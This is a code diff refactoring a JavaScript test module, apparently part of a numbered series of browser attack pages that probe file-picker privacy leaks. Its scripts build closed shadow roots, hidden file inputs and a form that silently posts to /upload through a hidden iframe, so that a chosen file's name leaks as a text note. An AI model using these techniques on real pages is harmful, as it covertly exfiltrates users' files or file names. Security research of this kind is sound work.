@@ -13,44 +13,15 @@
 // adopted into this document. A name learnt goes up as a text note
 // "leak-….txt". Served by server.mjs at /attack55-…; tests: attack55.test.mjs.
 
-import { findSelection, leakNote as leak, attackPages, pickerWaysPage } from './uploads.mjs';
-
-
-const findsel = (why) => findSelection(why, { fresh: true });
-
-/** A custom element x-h55 whose constructor keeps its ElementInternals (window.int55). */
-const define = "customElements.define('x-h55', class extends HTMLElement { constructor() { super(); try { window.int55 = this.attachInternals(); } catch (e) { note('internals threw ' + e.name); } } });";
+import { closedWays } from './attack54-pages.mjs';
+import { attackPages, pickerWaysPage } from './uploads.mjs';
 
 /** Markup of a host x-h55 with a declarative CLOSED shadow root. */
 const MARKUP = '<x-h55 id=h55><template shadowrootmode=closed><p>in root</p></template></x-h55>';
 const Q = JSON.stringify(MARKUP);
 
-/**
- * `setup` runs at page load; `makeHost` (an expression: a function returning a DETACHED host of this document whose
- * closed root the browser made) runs in the person's click; the label holding i is appended into the root, the deep
- * span clicked: Chromium's own picker fills i, detached. On change: `connect`, then `find`.
- */
-const closedPick = (why, makeHost, { setup = '', connect = 'document.body.append(H);', find = findsel(why), holder = 'if (root) root.append(l);' } = {}) => `
-      ${leak}
-      ${define}
-      ${setup}
-      document.getElementById('open').addEventListener('click', () => {
-        const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo';
-        const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x';
-        l.append(i, x);
-        let H = null; try { H = (${makeHost})(); } catch (e) { note('host threw ' + e.name + ' ' + e.message); }
-        if (H) try { customElements.upgrade(H); } catch (e) { note('upgrade threw ' + e.name); }
-        const root = window.int55 && window.int55.shadowRoot; note('host ' + (H && H.localName) + ' root ' + (root && root.mode) + ' connected ' + (H && H.isConnected) + ' open ' + (H && H.shadowRoot) + ' doc ' + (H && H.ownerDocument === document));
-        ${holder}
-        i.addEventListener('change', () => { note('change'); try { ${connect} i.style.width = '600px'; note('i connected ' + i.isConnected + ' w ' + i.offsetWidth);
-          ${find} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
-        try { t.click(); } catch (e) { note('click threw ' + e.name); }
-      });`;
-
-/** The label put in a multipart form (posting to /upload into a hidden frame) inside the root, with a submit button b. */
-const inForm = "const fr = document.createElement('iframe'); fr.name = 'sink55'; fr.style.display = 'none'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; f.target = 'sink55'; const b = document.createElement('button'); b.type = 'submit'; b.textContent = 'go'; f.append(l, b); window.b55 = b; if (root) root.append(f);";
-/** A click on b that stays in its shadow tree (not composed): the form is posted natively. */
-const quietClick = "window.b55.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); note('posted');";
+/** attack 54's ways into a declarative closed root, for x-h55 (attack54-pages.mjs closedWays). */
+const { closedPick, inForm, quietClick } = closedWays(55);
 
 /** A frame made at load (hidden) holding the markup, by `src` (srcdoc or an address). */
 const frameAt = (attr, value) => `const fr55 = document.createElement('iframe'); fr55.style.display = 'none'; fr55.${attr} = ${value}; fr55.addEventListener('load', () => note('frame loaded ' + !!(fr55.contentDocument && fr55.contentDocument.getElementById('h55')))); document.body.append(fr55); window.fr55 = fr55;`;
